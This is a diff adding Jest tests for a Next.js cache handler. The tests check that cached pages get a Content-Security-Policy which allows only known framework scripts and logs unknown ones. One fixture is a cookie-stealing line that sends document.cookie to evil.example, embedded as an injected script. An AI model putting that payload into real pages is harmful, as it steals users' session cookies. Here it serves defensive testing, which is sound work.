@@ -1,0 +1,80 @@
+import { createHash } from 'node:crypto';
+import { mkdtempSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
+import { jest } from '@jest/globals';
+import { nodeFs } from 'next/dist/server/lib/node-fs-methods.js';
+
+const logSecurityEvent = jest.fn();
+jest.unstable_mockModule('@/lib/logging/log.mjs', () => ({ logSecurityEvent }));
+const { default: PageCache } = await import('@/lib/cache/cache-handler.mjs');
+
+const FLIGHT = 'self.__next_f.push([1,"text"])';
+const INJECTED = 'fetch("https://evil.example/"+document.cookie)';
+const ROUTE = `/route-cache/APP_PAGE/${'ab'.repeat(32)}/$`;
+const KEY = `${ROUTE}/sites/shop.example/terms`;
+const hash = (script: string) => `'sha256-${createHash('sha256').update(script).digest('base64')}'`;
+
+let folder: string;
+
+beforeEach(() => {
+  folder = mkdtempSync(path.join(tmpdir(), 'page-policy-'));
+  logSecurityEvent.mockClear();
+});
+afterEach(() => {
+  delete process.env.PAYMENT_HOSTS;
+  rmSync(folder, { recursive: true });
+});
+
+/** A cache as of a process that has just started: it reads what another one wrote from the disk. */
+function createCache() {
+  return new PageCache({
+    fs: nodeFs,
+    flushToDisk: true,
+    serverDistDir: folder,
+    revalidatedTags: [],
+    _requestHeaders: {},
+  });
+}
+
+const page = (html: string) => ({
+  kind: 'APP_PAGE',
+  html,
+  rscData: Buffer.from('data'),
+  headers: {},
+  status: 200,
+  postponed: undefined,
+  segmentData: undefined,
+});
+const POLICY_TERMS = `<main><h1>Terms</h1><script>${INJECTED}</script></main><script>${FLIGHT}</script>`;
+const policyOf = (value: { headers?: Record<string, unknown> } | null | undefined) =>
+  String(value?.headers?.['content-security-policy']);
+
+test('a page that was rendered with a script in its content does not allow that script', async () => {
+  const value = page(POLICY_TERMS);
+  await createCache().set(KEY, value, { kind: 'APP_PAGE' });
+  expect(policyOf(value)).toContain(hash(FLIGHT));
+  expect(policyOf(value)).not.toContain(hash(INJECTED));
+  expect(logSecurityEvent.mock.calls).toEqual([
+    ['unknown-script', { path: KEY, hash: hash(INJECTED), length: INJECTED.length }],
+  ]);
+});
+
+test('a kept page follows settings that were changed since', async () => {
+  await createCache().set(KEY, page(POLICY_TERMS), { kind: 'APP_PAGE' });
+  process.env.PAYMENT_HOSTS = 'pay.example';
+  const entry = await createCache().get(KEY, { kind: 'APP_PAGE' });
+  expect(policyOf(entry?.value)).toContain("form-action 'self' https://pay.example;");
+  expect(policyOf(entry?.value)).toContain(hash(FLIGHT));
+  expect(policyOf(entry?.value)).not.toContain(hash(INJECTED));
+});
+
+test('a kept page allows plain http only on a site that is on http', async () => {
+  const cache = createCache();
+  const [https, http] = [page('<p></p>'), page('<p></p>')];
+  await cache.set(KEY, https, { kind: 'APP_PAGE' });
+  await cache.set(`${ROUTE}/sites/localhost/terms`, http, { kind: 'APP_PAGE' });
+  expect(policyOf(https)).not.toContain('http:');
+  expect(policyOf(http)).toContain('img-src ');
+  expect(policyOf(http)).toContain('http:');
+});
